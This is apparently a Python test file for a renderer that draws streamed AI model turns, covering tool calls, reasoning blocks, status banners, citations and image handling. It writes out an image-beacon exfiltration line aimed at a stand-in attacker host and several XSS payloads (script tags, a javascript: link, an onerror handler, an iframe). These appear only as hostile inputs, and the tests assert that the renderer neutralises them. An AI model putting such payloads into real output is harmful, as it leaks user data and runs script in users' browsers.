"""`lesson_lib.draw`: hostile text, tool calls, reasoning, the banner, images, purity."""

from __future__ import annotations

import time
from dataclasses import fields

from draw_checks import live_elements, tags_of

from lesson_lib.draw import Drawer, draw, tool_label
from lesson_lib.turn import initial, reduce
from lesson_lib.turn.closing import closing_events
from lesson_lib.turn.events import (
    BlockDelta,
    BlockEnded,
    BlockStarted,
    ErrorReported,
    Finish,
    StepFinished,
    StepStarted,
    ToolCallInvalid,
    ToolCallReady,
    ToolExecutionFinished,
    ToolExecutionStarted,
    TurnFinished,
    TurnStarted,
)

BEACON = "![x](https://attacker.example/?q=SECRET)"


DEFAULTS = {BlockStarted: {"step": 1}, ErrorReported: {"step": 1, "scope": "provider"},
            StepFinished: {"ended": "proper"}, ToolExecutionFinished: {"status": "ok"}}


class Turn:
    """A turn built event by event, drawn after each one."""

    def __init__(self, **options) -> None:
        self.state = initial()
        self.drawer = Drawer(**options)
        self.n = 0
        self.drawings = []
        self.add(TurnStarted, turn="turn", t=0.0)
        self.add(StepStarted, step=1, wire="anthropic-messages", t=0.0)

    def add(self, cls, now_ms=None, **fields):
        for name, value in DEFAULTS.get(cls, {}).items():     # identity fields are required
            fields.setdefault(name, value)
        self.state = reduce(self.state, cls(self.n, **fields))
        self.n += 1
        drawing = self.drawer.draw(self.state, now_ms=now_ms)
        self.drawings.append(drawing)
        return drawing

    def text(self, fragments, block="s1.b0", end=True):
        self.add(BlockStarted, block=block, block_kind="text")
        for f in fragments:
            self.add(BlockDelta, block=block, fragment=f)
        if end:
            self.add(BlockEnded, block=block)

    def finish(self, outcome="completed", reason="stop"):
        self.add(StepFinished, step=1, finish=Finish(reason),
                 ended="proper" if outcome == "completed" else "cut")
        return self.add(TurnFinished, outcome=outcome)


def every_html(turn: Turn) -> list[str]:
    return [p.html for d in turn.drawings for p in d.parts]


def test_the_image_beacon_is_never_fetched_mid_stream_or_after():
    for outcome in ("completed", "truncated"):
        turn = Turn()
        turn.text(["Here you go.\n\n", BEACON[:10], BEACON[10:25], BEACON[25:], "\n\nmore"])
        turn.finish(outcome)
        for html in every_html(turn):
            assert not live_elements(html), html
            for tag, attrs in tags_of(html):
                assert all("attacker.example" not in (v or "") for k, v in attrs
                           if k != "title"), (tag, attrs)
        assert "attacker.example" in turn.drawings[-1].text     # shown, as text


def test_hostile_text_gets_no_live_element_and_no_traceback():
    deep_list = "- " * 10_000 + "x\n"
    deep_quote = "> " * 10_000 + "x\n"
    nested = "".join("  " * i + "- y\n" for i in range(200))
    hostile = ["<script>alert(1)</script>\n\n", "[click](javascript:alert(1))\n\n",
               "<img src=x onerror=alert(1)>\n\n", '<a href="https://evil.example">a</a>\n\n',
               "![d](data:image/png;base64,AAAA)\n\n", "<iframe src=//evil.example>\n\n",
               deep_list, "\n", deep_quote, "\n", nested]
    turn = Turn(image_origins=["https://evil.example"])
    started = time.perf_counter()
    turn.text(hostile)
    final = turn.finish()
    assert time.perf_counter() - started < 30
    for html in every_html(turn):
        assert not live_elements(html), html
    assert "&lt;script&gt;" in final.html and "<script" not in final.html
    assert "javascript:" not in " ".join(v or "" for _, a in tags_of(final.html) for _, v in a)


def test_an_image_is_drawn_only_settled_after_completion_from_an_allowed_origin():
    good = "![chart](https://img.example/c.png)"
    turn = Turn(image_origins=["https://img.example"])
    turn.text(["Intro\n\n", good, "\n\n", BEACON, "\n\nend"])
    assert not any("<img" in h for h in every_html(turn))            # never while it forms
    final = turn.finish("completed")
    imgs = [a for t, a in tags_of(final.html) if t == "img"]
    assert [dict(a)["src"] for a in imgs] == ["https://img.example/c.png"]
    cut = Turn(image_origins=["https://img.example"])
    cut.text(["Intro\n\n", good, "\n\nend"])
    assert "<img" not in cut.finish("truncated").html


def test_links_are_text_while_they_form_and_links_once_settled():
    turn = Turn()
    turn.text(["See [docs](https://docs.example/a) now", "\n\nnext\n"], end=False)
    first = turn.drawings[-2]
    assert "<a " not in first.html and "docs" in first.html
    assert '<a href="https://docs.example/a" rel="nofollow noopener noreferrer"' in \
        turn.drawings[-1].html


def test_a_tool_call_draws_its_label_at_once_and_fields_only_when_settled():
    turn = Turn()
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="get_weather",
             call_id="c1")
    assert "Checking the weather…" in turn.drawings[-1].text
    turn.add(BlockDelta, block="s1.b0", fragment='{"city": "Pa')
    city = turn.drawings[-1].part("s1.b0/arg/city")
    assert city is not None and not city.settled and "pending" in city.text
    turn.add(BlockDelta, block="s1.b0", fragment='ris", "days": 12')
    d = turn.drawings[-1]
    assert d.part("s1.b0/arg/city").settled and d.part("s1.b0/arg/days") is None  # 12 or 123?
    turn.add(BlockDelta, block="s1.b0", fragment="3}")
    assert turn.drawings[-1].part("s1.b0/arg/days").text == "days: 123"
    turn.add(BlockEnded, block="s1.b0")
    turn.add(ToolCallReady, block="s1.b0", name="get_weather", call_id="c1",
             input={"city": "Paris", "days": 123})
    assert "ready" in turn.drawings[-1].part("s1.b0/call").text
    turn.add(StepFinished, step=1, finish=Finish("tool_calls"))
    assert turn.drawings[-1].part("turn/banner").text == "▶ running tools"
    turn.add(ToolExecutionStarted, block="s1.b0", call_id="c1", name="get_weather")
    assert "running" in turn.drawings[-1].part("s1.b0/call").text
    turn.add(ToolExecutionFinished, block="s1.b0", call_id="c1", result={"temp": 18})
    d = turn.drawings[-1]
    assert d.part("s1.b0/call").settled and "done" in d.part("s1.b0/call").text
    assert d.part("s1.b0/result").text == 'result: {"temp": 18}'


def test_unknown_and_server_side_tools():
    assert tool_label("frobnicate") == "Calling a tool…"
    turn = Turn()
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="web_search",
             call_id="s1", server_side=True)
    assert "server-side" in turn.drawings[-1].part("s1.b0/call").html


def test_reasoning_is_drawn_apart_and_collapsed():
    turn = Turn()
    turn.add(BlockStarted, block="s1.b0", block_kind="reasoning")
    turn.add(BlockDelta, block="s1.b0", fragment="<b>hmm</b> " * 100, channel="reasoning")
    live = turn.drawings[-1].part("s1.b0/reasoning")
    assert live.html.startswith('<details class="draw-reasoning">') and not live.settled
    assert "<b>" not in live.html and "Thinking…" in live.text
    turn.add(BlockEnded, block="s1.b0")
    assert turn.drawings[-1].part("s1.b0/reasoning").settled


def test_a_stall_past_the_threshold_is_drawn_as_a_stall():
    turn = Turn(stalled_after_ms=5000)
    turn.add(BlockStarted, block="s1.b0", block_kind="text", t=100.0)
    turn.add(BlockDelta, block="s1.b0", fragment="Hello", t=200.0)
    assert "streaming" in turn.drawer.draw(turn.state, now_ms=4000).part("turn/banner").text
    stalled = turn.drawer.draw(turn.state, now_ms=5300).part("turn/banner")
    assert stalled.text.startswith("⚠ stalled") and not stalled.settled


def test_the_end_banner_never_says_done_for_a_dead_stream():
    for outcome, word in [("failed", "failed"), ("truncated", "truncated"),
                          ("cancelled", "cancelled")]:
        turn = Turn()
        turn.text(["Half an ans"], end=False)
        if outcome == "failed":
            turn.add(ErrorReported, message="Overloaded", phase="after_output")
        turn.add(BlockEnded, block="s1.b0", complete=False, synthesised=True)
        final = turn.finish(outcome)
        banner = final.part("turn/banner")
        assert banner.settled and word in banner.text and "completed" not in banner.text
        assert "Half an ans" in final.text                           # what arrived is kept
    turn = Turn()
    final = turn.finish("completed", reason="tool_calls")
    assert "completed" not in final.part("turn/banner").text


def test_draw_is_pure_and_settled_parts_are_shared_not_redrawn():
    turn = Turn()
    turn.text(["# Title\n\n", "para one\n\n", "para two\n", "and"], end=False)
    state = turn.state
    a, b = draw(state), draw(state)
    assert a.parts == b.parts == Drawer().draw(state).parts
    assert a.parts[0] is b.parts[0]                      # the settled part, drawn once
    assert [p.settled for p in a.parts] == [True, True, False, False]


def test_a_pause_inside_a_tools_arguments_is_drawn_as_still_working():
    turn = Turn(stalled_after_ms=10_000)
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="get_weather",
             call_id="c1", t=10.0)
    turn.add(BlockDelta, block="s1.b0", fragment='{"city": "Paris", ', t=20.0)
    paused = turn.drawer.draw(turn.state, now_ms=3000.0)
    assert paused.part("turn/banner").text.startswith("⋯ still working")
    assert "still working" in paused.part("s1.b0/call").html


def test_text_blocks_of_one_step_are_one_text_with_the_cited_span_marked():
    from lesson_lib.turn.events import SourceAdded
    turn = Turn()
    turn.text(["According to the guide, "], block="s1.b0")
    turn.add(BlockStarted, block="s1.b1", block_kind="text")
    turn.add(SourceAdded, block="s1.b1", source={"cited_text": "Open 10-18.",
                                                  "title": "Guide", "url": "https://g.example"})
    turn.add(BlockDelta, block="s1.b1", fragment="it opens at 10")
    turn.add(BlockEnded, block="s1.b1")
    turn.text([", every day."], block="s1.b2")
    final = turn.finish()
    first = final.parts[0]
    assert first.text == "According to the guide, it opens at 10[1], every day."
    assert '<sup class="draw-cite-mark">[1]</sup>' in first.html and first.settled
    cite = final.part("s1.b1/cite1")
    assert cite.text == "[1] “Open 10-18.” — Guide <https://g.example>" and cite.settled


def test_model_text_cannot_forge_a_citation_mark():
    turn = Turn()
    turn.text(["a \ue0001\ue001 b"])
    assert "draw-cite-mark" not in turn.finish().html


def test_tool_arguments_10000_levels_deep_are_drawn_without_a_traceback():
    turn = Turn()
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="deep", call_id="c1")
    turn.add(BlockDelta, block="s1.b0", fragment='{"a": ' + "[" * 10_000)
    turn.add(BlockDelta, block="s1.b0", fragment="]" * 10_000 + "}")
    deep = [[]]
    for _ in range(9_998):
        deep = [deep]
    turn.add(BlockEnded, block="s1.b0")
    turn.add(ToolCallReady, block="s1.b0", name="deep", call_id="c1", input={"a": deep})
    final = turn.finish("completed", reason="tool_calls")
    assert "too deep" in final.part("s1.b0/arg/a").text


def test_a_tool_call_cut_before_any_argument_says_so_instead_of_an_empty_box():
    turn = Turn()
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="get_weather",
             call_id="c1")
    turn.add(BlockEnded, block="s1.b0", complete=False, synthesised=True)
    turn.add(ToolCallInvalid, block="s1.b0", name="get_weather", call_id="c1", state="cut",
             raw="")
    raw = turn.drawings[-1].part("s1.b0/raw")
    assert "no argument arrived" in raw.text and "no argument arrived" in raw.html
    assert "<pre></pre>" not in raw.html and raw.settled
    turn.add(BlockStarted, block="s1.b1", block_kind="tool_call", name="search", call_id="c2")
    turn.add(BlockDelta, block="s1.b1", fragment='{"q": "pa')
    turn.add(ToolCallInvalid, block="s1.b1", name="search", call_id="c2", state="cut",
             raw='{"q": "pa')
    some = turn.drawings[-1].part("s1.b1/raw")
    assert '<pre>{&quot;q&quot;: &quot;pa</pre>' in some.html and "no argument" not in some.text


def cancelled_banner(turn: Turn, *, step: int = 1) -> str:
    """Cancel `turn` as the loops do (close what is open, interrupt what runs) and read the
    banner."""
    for event in closing_events(turn.state, "the turn was cancelled"):
        turn.add(type(event), **{f.name: getattr(event, f.name) for f in fields(event)
                                 if f.name != "seq"})
    for block in turn.state.calls:
        if block.execution == "running":
            turn.add(ToolExecutionFinished, block=block.id, call_id=block.call_id,
                     status="interrupted", error="the turn was cancelled")
    if not any(s.step == step and s.finished for s in turn.state.steps):
        turn.add(StepFinished, step=step, ended="cancelled")
    banner = turn.add(TurnFinished, outcome="cancelled").part("turn/banner")
    assert banner.settled and banner.text.startswith("⊘ cancelled")
    return banner.text


def test_the_cancelled_banner_says_what_it_interrupted():
    turn = Turn()
    turn.text(["Half an ans"], end=False)
    words = cancelled_banner(turn)
    assert "the text arriving" in words and "tool" not in words

    turn = Turn()                            # a tool running, its call's text already ended
    turn.text(["Let me check."])
    turn.add(BlockStarted, block="s1.b1", block_kind="tool_call", name="get_weather",
             call_id="c1")
    turn.add(BlockDelta, block="s1.b1", fragment='{"city": "Paris"}')
    turn.add(BlockEnded, block="s1.b1")
    turn.add(ToolCallReady, block="s1.b1", name="get_weather", call_id="c1",
             input={"city": "Paris"})
    turn.add(StepFinished, step=1, finish=Finish("tool_calls"))
    turn.add(ToolExecutionStarted, block="s1.b1", call_id="c1", name="get_weather")
    words = cancelled_banner(turn)
    assert "the tool get_weather running" in words and "text" not in words

    turn = Turn()                            # arguments arriving and another tool running
    turn.add(BlockStarted, block="s1.b0", block_kind="tool_call", name="search", call_id="c0")
    turn.add(BlockDelta, block="s1.b0", fragment='{"q": "x"}')
    turn.add(BlockEnded, block="s1.b0")
    turn.add(ToolCallReady, block="s1.b0", name="search", call_id="c0", input={"q": "x"})
    turn.add(ToolExecutionStarted, block="s1.b0", call_id="c0", name="search")
    turn.add(BlockStarted, block="s1.b1", block_kind="tool_call", name="get_weather",
             call_id="c1")
    turn.add(BlockDelta, block="s1.b1", fragment='{"ci')
    words = cancelled_banner(turn)
    assert "the arguments of get_weather arriving and the tool search running" in words

    turn = Turn()                            # step 2's request sent, nothing back yet
    turn.text(["Checking."])
    turn.add(StepFinished, step=1, finish=Finish("tool_calls"))
    words = cancelled_banner(turn, step=2)
    assert "the request for step 2 before its first byte" in words
    assert "text" not in words and "tool " not in words

    turn = Turn()                            # between steps: nothing ran, nothing arrived
    turn.text(["Done with step one."])
    turn.add(StepFinished, step=1, finish=Finish("tool_calls"))
    assert "with nothing arriving or running" in cancelled_banner(turn, step=1)
